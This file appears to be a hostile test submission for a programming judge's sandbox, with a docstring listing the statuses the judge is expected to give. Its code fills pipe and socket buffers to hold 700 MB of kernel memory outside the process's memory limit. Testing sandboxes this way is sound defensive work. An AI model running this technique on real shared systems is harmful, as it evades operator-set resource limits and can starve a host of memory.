"""Fills the buffers of pipes and sockets, which are kernel memory.

task: squares
status: MLE RE WA TLE
"""

import fcntl
import os
import socket

os.write(2, b"attempt\n")
filled, kept = 0, []
try:
    while filled < 700 << 20:
        out, into = os.pipe()
        kept.append(out)
        os.set_blocking(into, False)
        try:
            fcntl.fcntl(into, 1031, 1 << 20)  # F_SETPIPE_SZ
        except OSError:
            pass
        try:
            while True:
                filled += os.write(into, b"x" * 65536)
        except BlockingIOError:
            pass
        left, right = socket.socketpair()
        kept.append((left, right))
        left.setblocking(False)
        left.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 22)
        try:
            while True:
                filled += left.send(b"x" * 65536)
        except BlockingIOError:
            pass
except OSError as error:
    print(error)
if filled >= 700 << 20:
    os.write(1, b"ESCAPED 700 MB in pipes\n")
